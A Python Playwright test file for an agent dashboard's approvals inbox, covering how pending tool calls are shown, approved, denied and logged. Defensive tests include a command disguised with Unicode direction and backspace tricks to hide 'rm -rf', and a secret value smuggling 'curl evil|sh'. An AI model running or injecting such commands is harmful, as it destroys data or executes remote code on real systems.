"""The approvals inbox: calls wait with their exact arguments, and are answered once."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from amplifier_core.triggers import TriggerEvent, TriggerType
from amplifier_dashboard.rendering import environment
from amplifier_foundation.background.approvals import Approval, decide, save
from amplifier_foundation.background.log_events import OPERATOR_ACTED

from .conftest import LIVE, Served, home_of, opened
from .filled import HOSTILE, deliver

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.slow

QUEUE = "shop/cleaner"
DIFF = "--- app.py\n+++ app.py\n@@ -1 +1 @@\n-print(1)\n+print(2)"


def ask(served: Served, name: str, minutes: float = 5, **facts: object) -> Approval:
    """Store a delivery that waits for an answer."""

    async def store() -> Approval:
        now = datetime.now(UTC)
        event = TriggerEvent(TriggerType.MANUAL, "manual", now, {"name": name})
        delivery = await deliver(served.store, "/work", QUEUE, "manual", event, now)
        approval = Approval(
            id=f"{name:0<12}",
            state="pending",
            project="/work",
            queue=QUEUE,
            delivery_id=delivery.delivery_id,
            session_id="cleaner-000000000001",
            tool="write_file",
            arguments={"path": "app.py", "text": "print(2)\n\n  # two", "depth": [1, {"a": None}]},
            call_hash="0" * 64,
            key=name,
            question="May write_file write app.py?",
            reason="permissions.ask: write_file in bundle.md",
            options=["Allow once", "Allow for this session", "Allow always: write_file(app.py)", "Deny"],
            created=now - timedelta(minutes=minutes),
            expires=now + timedelta(days=7),
            preview=DIFF,
            messages=[{"role": "user", "text": f"Clean up. {HOSTILE}"}],
        )
        approval = replace(approval, **facts)  # type: ignore[arg-type]
        await save(served.store, "/work", QUEUE, {approval.id: approval})
        return approval

    approval: Approval = served.run(store())
    return approval


def visit(page: Page, served: Served, path: str) -> None:
    """Go to a page, and wait until it is live."""
    page.goto(f"{home_of(page)}{path}")
    page.wait_for_selector(LIVE)


def test_a_call_shows_its_exact_arguments_and_what_it_would_change(served: Served, page: Page) -> None:
    ask(served, "second", minutes=1)
    ask(served, "first", minutes=9)
    visit(page, served, "/approvals")
    cards = page.locator(".approval")
    assert [each.get_attribute("id") for each in cards.all()] == ["approval-first0000000", "approval-second000000"]
    card = cards.first
    texts = card.locator("dd pre").all_text_contents()
    assert texts[:2] == ["app.py", "print(2)\n\n  # two"]
    assert [each.strip() for each in card.locator(".diff .bad, .diff .good").all_text_contents()] == [
        "-print(1)",
        "+print(2)",
    ]
    expect(card).to_contain_text("permissions.ask: write_file in bundle.md")
    card.locator("summary").click()
    expect(card.locator(".messages")).to_contain_text(HOSTILE)


def test_a_command_cannot_hide_a_part_of_itself(served: Served, page: Page) -> None:
    ask(served, "first", arguments={"command": "ls \u202e#sl ;fr- mr\u0008\u0008"})
    visit(page, served, "/approvals")
    expect(page.locator(".approval dd pre").first).to_have_text("ls \ufffd#sl ;fr- mr\ufffd\ufffd")


def test_an_approval_is_given_once_and_says_who_gave_it(served: Served, page: Page) -> None:
    approval = ask(served, "first")
    visit(page, served, "/approvals")
    page.get_by_role("button", name="Approve once").click()
    expect(page.locator(".toast")).to_contain_text(
        "write_file is approved. Its session goes on at the next: amplifier up"
    )
    expect(page.locator(f"#answered-{approval.id}")).to_contain_text("✓ approved")
    expect(page.locator(f"#approval-{approval.id}")).to_have_count(0)
    [act] = [each for each in served.run(served.store.events()) if each.name == OPERATOR_ACTED]
    assert (act.data["act"], act.data["by"], act.data["via"], act.data["scope"]) == (
        "approvals.approve", "ada", "dashboard", "once",
    )  # fmt: skip


def test_always_shows_the_rule_before_it_is_added(served: Served, page: Page, home: Path) -> None:
    ask(served, "first")
    visit(page, served, "/approvals")
    page.get_by_role("button", name="Always: write_file(app.py)").click()
    expect(page.locator("#ask")).to_contain_text("permissions.allow of your settings: write_file(app.py)")
    page.locator("#ask").get_by_role("button", name="No").click()
    expect(page.locator(".approval")).to_have_count(1)
    page.get_by_role("button", name="Always: write_file(app.py)").click()
    page.locator("#ask").get_by_role("button", name="Yes").click()
    expect(page.locator(".toast")).to_contain_text("Added to permissions.allow of your settings: write_file(app.py)")
    assert "write_file(app.py)" in (home / "settings.yaml").read_text()


def test_a_call_is_denied_by_keys_with_a_reason(served: Served, page: Page) -> None:
    ask(served, "first", minutes=9)
    second = ask(served, "second", minutes=1)
    visit(page, served, "/approvals")
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("d")
    expect(page.get_by_role("dialog")).to_contain_text("Deny write_file")
    page.keyboard.type("not on Fridays")
    page.keyboard.press("Enter")
    expect(page.locator(f"#answered-{second.id}")).to_contain_text("✗ denied")
    expect(page.locator(f"#answered-{second.id}")).to_contain_text("not on Fridays")
    expect(page.locator(".approval")).to_have_count(1)


def test_a_call_approved_by_a_key_is_asked_about_once(served: Served, page: Page) -> None:
    approval = ask(served, "first")
    visit(page, served, "/approvals")
    page.keyboard.press("a")
    expect(page.locator(".toast")).to_contain_text("Choose a row first")
    page.keyboard.press("j")
    page.keyboard.press("a")
    expect(page.locator("#ask")).to_contain_text("Approve write_file once, exactly as shown?")
    page.keyboard.press("Enter")
    expect(page.locator(f"#answered-{approval.id}")).to_contain_text("approved")


def test_a_call_answered_elsewhere_says_so(served: Served, browser: Browser) -> None:
    approval = ask(served, "first")
    with opened(browser, served.link, expected="409 (Conflict)") as page:
        visit(page, served, "/approvals")
        page.get_by_role("button", name="Deny …").click()
        served.run(decide(served.store, approval, "approved"))
        expect(page.locator("#deny-note")).to_have_text("This call was answered meanwhile; see below.")
        expect(page.locator("#deny form button").first).to_be_disabled()
        page.evaluate("document.querySelector('#deny form').requestSubmit()")
        expect(page.locator(".toast.failed")).to_contain_text("is approved already")


def test_what_waits_is_counted_in_the_navigation_and_in_the_title_of_every_page(served: Served, page: Page) -> None:
    expect(page).to_have_title("Overview · amplifier")
    ask(served, "first")
    approval = ask(served, "second")
    expect(page).to_have_title("(2) Overview · amplifier")
    expect(page.get_by_role("link", name="Approvals 2 waiting")).to_be_visible()
    served.run(decide(served.store, approval, "denied"))
    expect(page).to_have_title("(1) Overview · amplifier")


def test_a_reader_sees_no_buttons(served: Served, page: Page) -> None:
    served.desk.read_only = True
    ask(served, "first")
    visit(page, served, "/approvals")
    expect(page.locator(".approval")).to_have_count(1)
    expect(page.locator(".approval button")).to_have_count(0)


def test_a_call_says_where_code_may_be_in_the_place_of_a_secret() -> None:
    shown = environment().from_string("{{ text }}").render(text="make PASSWORD='x;curl evil|sh'")
    assert "[REDACTED, MAY BE CODE]" in shown
